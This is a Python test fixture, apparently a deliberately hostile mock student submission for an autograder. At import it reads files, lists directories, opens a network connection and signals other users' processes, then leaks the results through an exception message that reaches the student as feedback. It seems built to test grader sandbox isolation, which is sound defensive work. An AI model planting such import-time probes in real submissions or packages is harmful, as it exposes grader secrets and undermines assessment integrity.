"""HOSTILE (Gradescope): an a2 that looks for what the grader keeps and raises with it.

At import it reads every file of TARGETS["read"] (keeping the first bytes), lists every
folder of TARGETS["list"], connects to TARGETS["connect"] (host, port), and sends signal 0
(a permission check that does not hurt) to every process of another user. Every check of
a2 then fails with "PROBE<json>PROBE" in its message, which the student sees as feedback:
whatever the probe could reach would be shown to the student.
"""

import json
import os
import socket

TARGETS = {"read": [], "list": [], "connect": None}  # the test writes the real targets here


def _probe():
    found = {}
    for path in TARGETS["read"]:
        try:
            with open(path, "rb") as f:
                found[path] = "read: " + f.read(60).decode("latin-1")
        except OSError as exc:
            found[path] = type(exc).__name__
    for path in TARGETS["list"]:
        try:
            found[path] = "listed: " + ",".join(sorted(os.listdir(path))[:8])
        except OSError as exc:
            found[path] = type(exc).__name__
    if TARGETS["connect"]:
        try:
            with socket.create_connection(tuple(TARGETS["connect"]), timeout=3):
                found["connect"] = "connected"
        except OSError as exc:
            found["connect"] = type(exc).__name__
    signalled = 0
    for name in os.listdir("/proc"):
        try:
            if name.isdigit() and os.stat(f"/proc/{name}").st_uid != os.getuid():
                os.kill(int(name), 0)
                signalled += 1
        except OSError:
            pass
    found["signal"] = signalled
    found["uid"] = os.getuid()
    return found


FOUND = _probe()


class BatchNormalization:
    def __init__(self, gamma, beta, momentum=0.9, running_mean=None, running_var=None,
                 eps=1e-5):
        raise RuntimeError("PROBE" + json.dumps(FOUND) + "PROBE")
